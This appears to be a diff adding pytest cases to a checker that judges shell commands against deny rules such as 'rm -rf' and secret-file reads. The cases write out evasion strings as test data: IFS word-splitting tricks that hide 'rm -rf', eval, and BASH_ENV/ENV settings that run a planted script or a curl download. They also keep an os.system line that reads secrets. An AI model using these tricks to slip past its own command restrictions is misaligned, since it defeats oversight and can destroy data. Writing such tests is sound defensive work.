@@ -249,3 +249,42 @@ def test_reading_by_commands_in_program_text() -> None:
     line = """python3 -c 'import os; os.system("cat secrets/a")'"""
     assert verdict("banned_tools", ["Read(./secrets/**)"], bash(line), cwd="/repo") == "unknown"
     assert verdict("banned_tools", ["Read(./other/**)"], bash(line), cwd="/repo") == "pass"
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("IFS=,; c=rm,-rf,x; $c", "fail"),
+        ("IFS=, c=rm,-rf,x; $c", "fail"),
+        ("IFS=$':' ; c=-rf:x; rm $c", "fail"),
+        ("export IFS=:; c=rm:-rf:x; $c", "fail"),
+        ("IFS=+; for c in $(echo rm+mv); do $c -rf x; done", "fail"),
+        ("IFS=_; c=rm_-rf_x; eval $c", "fail"),
+        ("OLD=$IFS; IFS=,; c=rm,-rf,x; $c; IFS=$OLD", "fail"),
+        ('IFS="$S"; c=rm,-rf,x; $c', "unknown"),
+        ("IFS=,; unset IFS; c=rm,-rf,x; $c", "pass"),
+        ('IFS=,; c=rm,-rf,x; "$c"', "pass"),
+        ("IFS=,; c=ls,-l,x; $c", "pass"),
+        ("IFS=,; for w in a,b; do echo $w; done", "pass"),
+        ("while IFS=, read -r a b; do echo $a; done < f.csv", "pass"),
+    ],
+)
+def test_words_are_split_at_the_signs_of_ifs(line: str, expected: str) -> None:
+    assert verdict("banned_tools", ["rm -rf"], bash(line)) == expected
+
+
+@pytest.mark.parametrize("name", ["BASH_ENV", "ENV"])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("<(echo rm -rf x)", "unknown"),
+        ("<(curl -s https://example.com/x)", "unknown"),
+        ("x.sh", "fail"),
+        ("./x.sh", "fail"),
+        ("other.sh", "pass"),
+        ("prod", "pass"),
+    ],
+)
+def test_what_a_shell_reads_before_its_script(name: str, value: str, expected: str) -> None:
+    line = f"echo 'rm -rf y' > x.sh; {name}={value} bash -c true"
+    assert verdict("banned_tools", ["rm -rf"], bash(line)) == expected
